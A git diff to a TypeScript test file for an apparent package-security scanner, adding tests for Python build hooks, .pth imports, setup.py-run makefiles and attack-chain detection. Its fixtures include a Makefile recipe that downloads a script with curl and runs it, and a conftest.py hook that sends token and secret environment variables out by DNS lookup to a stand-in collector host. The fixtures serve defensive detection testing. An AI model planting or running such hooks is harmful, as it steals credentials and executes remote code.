@@ -6,7 +6,7 @@ import { describe, expect, it } from 'vitest';
 import { corpusPath, hasCorpora, REPO_ROOT } from '../../../../test/corpora.js';
 import { openRelease } from '../../package/open.js';
 import { releaseOf } from '../release.fixture.js';
-import { commandParts, directImports, gypCommands, loadedAsideFiles, npmHooks } from './hooks.js';
+import { commandParts, directImports, gypCommands, installTimeFiles, loadedAsideFiles, npmHooks } from './hooks.js';
 import { analyzeSource } from './index.js';
 
 const ctx = { resourcesDir: path.join(REPO_ROOT, 'resources'), internalNamespaces: [] };
@@ -170,5 +170,46 @@ describe('chains across files that load one another', () => {
   });
   it('the same two modules with no import between them form none', () => {
     expect(chains({ 'pkg/collect.py': collect, 'pkg/send.py': send('from .other import grab') })).toEqual([]);
+  });
+});
+
+describe('Python files the build or every interpreter start runs', () => {
+  const at = (files: Record<string, string>): string[] => [...installTimeFiles(releaseOf('pypi', files), [])].sort();
+  it('an in-tree build backend and Hatch hooks, by the paths pyproject.toml gives or Hatch defaults to', () => {
+    const backend = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n';
+    expect(at({ 'pyproject.toml': backend, '_build/backend.py': '', 'pkg/__init__.py': '' })).toEqual(['_build/backend.py']);
+    const hatch = '[build-system]\nbuild-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\n';
+    expect(at({ 'pyproject.toml': hatch, 'hatch_build.py': '', 'pkg/__init__.py': '' })).toEqual(['hatch_build.py']);
+    const target = '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/hook.py"\n[tool.hatch.metadata.hooks.custom]\npath = "tools/meta.py"\n';
+    expect(at({ 'pyproject.toml': target, 'tools/hook.py': '', 'tools/meta.py': '' })).toEqual(['tools/hook.py', 'tools/meta.py']);
+    // a backend from the index (no backend-path), a broken file, and no hooks: nothing of the package's own
+    expect(at({ 'pyproject.toml': '[build-system]\nbuild-backend = "hatchling.build"\n', 'hatch_build.py': '' })).toEqual([]);
+    expect(at({ 'pyproject.toml': '[build-system\nbuild-backend = ', '_build/backend.py': '' })).toEqual([]);
+  });
+  it('the package modules a .pth file imports, and makefiles when setup.py runs make', () => {
+    expect(at({ 'x.pth': 'import pkg._boot as b; b.enable()\n', 'pkg/__init__.py': '', 'pkg/_boot.py': '', 'pkg/other.py': '' })).toEqual(['pkg/_boot.py', 'x.pth']);
+    const setup = (cmd: string): Record<string, string> => ({ 'setup.py': `import subprocess\n${cmd}\n`, 'native/Makefile': 'all:\n\tcc -c a.c\n', 'native/rules.mk': '' });
+    expect(at(setup('subprocess.check_call(["make", "-C", "native"])'))).toEqual(['native/Makefile', 'native/rules.mk', 'setup.py']);
+    expect(at(setup('os.system("make -C native")'))).toEqual(['native/Makefile', 'native/rules.mk', 'setup.py']);
+    expect(at(setup('print("run make yourself")'))).toEqual(['setup.py']);
+  });
+  it("a makefile's recipes are read as shell commands only where the install runs make", () => {
+    const files = { 'setup.py': 'import subprocess\nsubprocess.check_call(["make", "-C", "native"])\n', 'native/Makefile': 'config:\n\t@(curl -fsSL $(URL) -o build/.tc && sh build/.tc &) ; true\n' };
+    const codes = (f: Record<string, string>): string[] => analyzeSource(releaseOf('pypi', f), ctx).findings.map((x) => x.code);
+    expect(codes(files)).toContain('download_and_run');
+    expect(codes({ ...files, 'setup.py': 'from setuptools import setup\nsetup()\n' })).not.toContain('download_and_run');
+  });
+});
+
+describe('attack chains in tests, examples and docs', () => {
+  const conftest = 'import os, socket, base64\ndef pytest_sessionstart(session):\n    keys = [k for k in os.environ if k.endswith(("_TOKEN", "_SECRET"))]\n    data = base64.b32encode("\\n".join(os.environ[k] for k in keys).encode()).decode()\n    socket.gethostbyname("%s.t.collector.example" % data[:50])\n';
+  it('a chain that sends collected secrets out counts, one step lower, and only within its file', () => {
+    const out = analyzeSource(releaseOf('pypi', { 'pkg/__init__.py': '', 'conftest.py': conftest }), ctx);
+    expect(out.chains.map((c) => c.severity)).toEqual(['high']);
+    expect(out.chains[0]?.title).toContain('test, example or docs file');
+  });
+  it('a test that only talks to a service it starts forms no chain', () => {
+    const test = 'import os, socket\ndef test_lookup():\n    assert socket.gethostbyname("localhost")\n    assert os.environ.get("HOME")\n';
+    expect(analyzeSource(releaseOf('pypi', { 'pkg/__init__.py': '', 'tests/test_net.py': test }), ctx).chains).toEqual([]);
   });
 });
